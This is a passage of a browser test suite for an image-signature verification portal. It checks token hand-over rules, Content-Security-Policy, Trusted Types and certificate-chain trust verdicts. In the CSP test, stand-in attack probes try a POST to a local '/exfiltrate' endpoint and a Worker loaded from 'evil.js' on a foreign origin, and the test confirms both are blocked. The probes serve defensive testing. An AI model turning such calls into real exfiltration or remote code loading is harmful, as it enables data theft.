    assert.equal(validations(requests, tok).length, before, "no hand-over after the user refused one");
    assert.equal(await frame.$("#session-user"), null);
  });

  test("embedding: a frame of an allowed origin that is not the parent cannot hand over a token", async () => {
    const tok = (await token()).value;
    const { page, requests, frame } = await framedByHost(tok, "?mode=sibling");
    await waitFor(frame, '#worker-status[data-status="ready"]', { timeout: 60_000 });
    await page.waitForFunction(() => window.posted >= 6, null, { timeout: 15_000 });
    assert.equal(await frame.$("#session-user"), null, "event.source is the sibling frame, not the parent");
    assert.deepEqual(validations(requests, tok).map((r) => r.url()), []);
  });

  test("embedding: a #token= link is ignored (and said so) unless config.json accepts it", async () => {
    const tok = (await token()).value;
    const { page, requests } = await browser();
    await page.goto(`${PORTAL}#token=${encodeURIComponent(tok)}`);
    await waitFor(page, "#handover-notice", { timeout: 60_000 });
    assert.match(await page.innerText("#handover-notice"), /ignored: this portal does not accept tokens in links/);
    assert.match(await page.innerText("#handover-notice"), /accept_token_fragment/);
    assert.equal(new URL(page.url()).hash, "", "the token left the address bar anyway");
    assert.equal(await page.$("#session-user"), null);
    assert.deepEqual(validations(requests, tok).map((r) => r.url()), [], "the token was not even sent to Keystone");

    await withConfig((c) => (c.embed.accept_token_fragment = true), async () => {
      // A query makes it a new document (the same URL with another fragment would not load).
      await page.goto(`${PORTAL}?again=1#token=${encodeURIComponent(tok)}`);
      await waitFor(page, "#handover-confirm-card", { timeout: 60_000 });
    });
    assert.equal(new URL(page.url()).hash, "");
    assert.ok(!page.url().includes(tok));
    const history = await page.evaluate(() => [location.href, history.length]);
    assert.ok(!history[0].includes("token="));
    assert.equal(await page.$("#sign-upload"), null, "no upload before the user confirms");
    await page.click("#handover-confirm");
    await waitFor(page, "#sign-upload");
    assert.match(await page.innerText("#blockers"), /Load the private key/);
    assert.doesNotMatch(await page.innerText("#blockers"), /Confirm/);
  });

  test("embedding: the opener hand-over only with embed.allow_opener (COOP same-origin otherwise)", async () => {
    const tok = await unscopedToken();
    const { page, context } = await browser();
    // Default: Cross-Origin-Opener-Policy same-origin cuts the opener off; nothing is handed over.
    let popupPromise = context.waitForEvent("page");
    await page.goto(`${HOST_OK}?mode=open&answer=1#token=${encodeURIComponent(tok)}`);
    await page.click("#open-portal");
    let popup = await popupPromise;
    assert.equal((await fetch(PORTAL)).headers.get("cross-origin-opener-policy"), "same-origin");
    await waitFor(popup, "#login", { timeout: 60_000 });
    assert.equal(await popup.evaluate(() => window.opener), null, "COOP severs the opener");
    await popup.waitForTimeout(1500);
    assert.equal(await popup.$("#session-user"), null);
    await popup.close();

    await withConfig((c) => (c.embed.allow_opener = true), async () => {
      popupPromise = context.waitForEvent("page");
      await page.goto(`${HOST_OK}?mode=open&answer=1#token=${encodeURIComponent(tok)}`);
      await page.click("#open-portal");
      popup = await popupPromise;
      await waitFor(popup, "#handover-confirm-card", { timeout: 60_000 });
    });
    assert.equal(await popup.getAttribute("#handover-confirm-card", "data-project"), "demo");
    assert.equal((await fetch(PORTAL)).headers.get("cross-origin-opener-policy"), "same-origin", "config.json put back");
  });

  test("lock_auth_url is on by default: ?auth_url= does not move the Keystone URL", async () => {
    const { page } = await browser();
    await openPortal(page, `?auth_url=${encodeURIComponent("http://127.0.0.1:8082/v3")}`);
    assert.equal(await page.inputValue("#auth-url"), "http://127.0.0.1:5000/v3");
    assert.equal(await page.$eval("#auth-url", (input) => input.readOnly), true);
  });

  test("embedding: a page of another origin can neither frame the portal nor hand it a token", async () => {
    const tok = (await token()).value;
    const { page, context } = await browser();
    await page.goto(`${HOST_BAD}?mode=frame#token=${encodeURIComponent(tok)}`);
    await page.waitForTimeout(3000);
    const frame = page.frames().find((f) => f.url().startsWith(PORTAL));
    const framed = frame ? await frame.$("#login, #session-user").catch(() => null) : null;
    assert.equal(framed, null, "frame-ancestors keeps the portal out of the frame");

    const popupPromise = context.waitForEvent("page");
    await page.goto(`${HOST_BAD}?mode=open#token=${encodeURIComponent(tok)}`);
    await page.click("#open-portal");
    const popup = await popupPromise;
    await popup.waitForSelector('#worker-status[data-status="ready"]', { timeout: 60_000 });
    await popup.waitForSelector("#login");
    await page.waitForFunction(() => window.posted >= 5, null, { timeout: 15_000 });
    assert.equal(await popup.$("#session-user"), null, "the token from a foreign origin is ignored");
  });

  test("Content-Security-Policy: connections only to the configured endpoints", async () => {
    const { page } = await browser();
    const response = await page.goto(PORTAL);
    const header = response.headers()["content-security-policy"];
    assert.match(header, /connect-src 'self' http:\/\/127\.0\.0\.1:5000 http:\/\/127\.0\.0\.1:9292 http:\/\/127\.0\.0\.1:9311;/);
    assert.match(header, /script-src 'self' 'wasm-unsafe-eval'/);
    assert.match(header, /frame-ancestors 'self' http:\/\/127\.0\.0\.1:8081/);
    const meta = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    assert.match(meta, /connect-src 'self' http:\/\/127\.0\.0\.1:5000/);
    await page.waitForSelector('#worker-status[data-status="ready"]', { timeout: 60_000 });
    const result = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      let blocked = false;
      try {
        await fetch("http://127.0.0.1:8082/exfiltrate", { method: "POST", body: "x" });
      } catch {
        blocked = true;
      }
      // Trusted Types: an HTML string and a foreign worker URL are refused (the only policy,
      // "default", passes the portal's own worker scripts and nothing else).
      let html = "assigned";
      try {
        document.createElement("div").innerHTML = "<b>x</b>";
      } catch (error) {
        html = error.name;
      }
      let worker = "started";
      try {
        new Worker("http://127.0.0.1:8082/evil.js");
      } catch (error) {
        worker = error.name;
      }
      let policy = "created";
      try {
        trustedTypes.createPolicy("mine", { createHTML: (s) => s });
      } catch (error) {
        policy = error.name;
      }
      let inline = true;
      const s = document.createElement("script");
      try {
        // Trusted Types already refuse the string; script-src would refuse to run it anyway.
        s.textContent = "window.__inlineRan = true";
      } catch {
        s.appendChild(document.createTextNode("window.__inlineRan = true"));
      }
      document.head.appendChild(s);
      inline = window.__inlineRan === true;
      await new Promise((r) => setTimeout(r, 200));
      return { blocked, inline, violations, html, worker, policy };
    });
    assert.equal(result.blocked, true, "fetch to an unlisted origin is blocked");
    assert.equal(result.inline, false, "inline scripts do not run");
    assert.ok(result.violations.includes("connect-src"), JSON.stringify(result.violations));
    assert.match(header, /require-trusted-types-for 'script'; trusted-types default/);
    assert.match(meta, /require-trusted-types-for 'script'; trusted-types default/);
    assert.equal(response.headers()["cross-origin-opener-policy"], "same-origin");
    assert.equal(result.html, "TypeError", "innerHTML with a string is refused (Trusted Types)");
    assert.equal(result.worker, "TypeError", "a foreign worker script is refused (Trusted Types)");
    assert.equal(result.policy, "TypeError", "no other Trusted Types policy can be made");
  });
});

// Trust in the portal: trusted certificates in the served portal's config.json (PORTAL_DIR,
// which serve.mjs reads on each request), written here after the tests above, which expect
// none, and put back afterwards.
describe("trust", () => {
  const trustDir = workDir();
  const ca = certificateAuthority(trustDir, "ca");
  const expiredCa = certificateAuthority(trustDir, "expired-ca", { expired: true });
  const anchored = issue(trustDir, ca, "anchored");
  const underExpired = issue(trustDir, expiredCa, "under-expired");
  const selfSigned = keyPair(trustDir, "self-signed", { type: "ec" });
  const data = randomFile(join(trustDir, "trust.img"), 256 * 1024 + 3);
  const images = {};
  const configPath = join(PORTAL_DIR, "config.json");
  let originalConfig;

  before(async () => {
    api = api || (await token());
    const uuid = {};
    for (const [name, pem] of [["ca", ca.pem], ["anchored", anchored.pem], ["under-expired", underExpired.pem],
      ["self-signed", readFileSync(selfSigned.cert, "utf8")]]) {
      uuid[name] = await storeCertificateSecret(api, `${RUN} ${name}`, pem);
    }
    images.anchored = await uploadSignedImage(api, `${RUN}-trust-anchored`, data, anchored.key, uuid.anchored);
    images.underExpired = await uploadSignedImage(api, `${RUN}-trust-expired-ca`, data, underExpired.key, uuid["under-expired"]);
    images.selfSigned = await uploadSignedImage(api, `${RUN}-trust-self-signed`, data, selfSigned.plainKey, uuid["self-signed"]);
    // The CA from Barbican (by id, fetched with the user's token), the expired CA inline.
    originalConfig = readFileSync(configPath, "utf8");
    const config = JSON.parse(originalConfig);
    config.trusted_certificate_ids = [uuid.ca];
    config.trusted_certificates = [expiredCa.pem];
    writeFileSync(configPath, JSON.stringify(config, null, 2) + "\n");
  });

  after(() => {
    if (originalConfig !== undefined) writeFileSync(configPath, originalConfig);
  });

  async function verifyWithAnchors(imageId) {
    const { page, verdict, text } = await verifyInBrowser(imageId, async (page) =>
      assert.equal(await page.getAttribute("#trust-config", "data-anchors"), "2"));
    const attr = async (name) => verdict.getAttribute(name);
    return { page, verdict, attr, text };
  }

  test("a certificate that chains to a trusted CA (from Barbican): authenticity established", async () => {
    const { page, attr, text } = await verifyWithAnchors(images.anchored);
    assert.equal(await attr("data-valid"), "true", text);
    assert.equal(await attr("data-trust"), "established", text);
    assert.equal(await attr("data-trust-code"), "chains-to-anchor");
    assert.match(await attr("class"), /\bok\b/);
    assert.match(await page.innerText("#verdict-trust"), new RegExp(`Authenticity established: signed by CN=${RUN} anchored .*chains to the trusted certificate CN=${RUN} ca`));
    assert.equal(await page.getAttribute("#verdict-chain", "data-valid"), "true");
    assert.deepEqual(await page.$$eval("#verdict-chain ol.chain li", (items) => items.map((i) => i.textContent)),
      [`CN=${RUN} anchored`, `CN=${RUN} ca`]);
    assert.equal(await page.getAttribute("#verdict-certificate", "data-fingerprint"), fingerprint(anchored.cert));
    assert.match(await page.innerText("#verdict-certificate"), new RegExp(`Issuer\\s+CN=${RUN} ca`));
  });

  test("a self-signed certificate not among the trusted ones: signature valid, authenticity NOT established", async () => {
    const { page, attr, text } = await verifyWithAnchors(images.selfSigned);
    assert.equal(await attr("data-signature-valid"), "true", text);
    // With trusted certificates given, the verdict includes Nova's chain validation (as the CLI's).
    assert.equal(await attr("data-valid"), "false", text);
    assert.equal(await attr("data-trust"), "not-established");
    assert.equal(await attr("data-trust-code"), "not-anchored");
    assert.equal(await attr("data-error-code"), "", "the signature itself is not refused");
    assert.match(text, /signature valid, but the certificate chain is NOT valid as Nova judges it/);
    assert.match(await page.innerText("#verdict-trust"), /Authenticity NOT established: certificate CN=\S+ self-signed .*does not chain to a trusted certificate/);
    assert.equal(await page.getAttribute("#verdict-chain", "data-error-code"), "issuer-not-found");
  });

  test("a certificate issued by an expired trusted CA: not established, the chain error and the skipped CA shown", async () => {
    const { page, attr, text } = await verifyWithAnchors(images.underExpired);
    assert.equal(await attr("data-signature-valid"), "true", text);
    assert.equal(await attr("data-valid"), "false", text);
    assert.equal(await attr("data-trust"), "not-established");
    assert.equal(await page.getAttribute("#verdict-chain", "data-error-code"), "issuer-not-found");
    assert.match(await page.innerText("#verdict-chain-error"), /Could not locate the signing certificate/);
    assert.match(await page.innerText("#verdict-chain"), new RegExp(`trusted certificate CN=${RUN} expired-ca cannot issue: outside its valid date range`));
  });
});
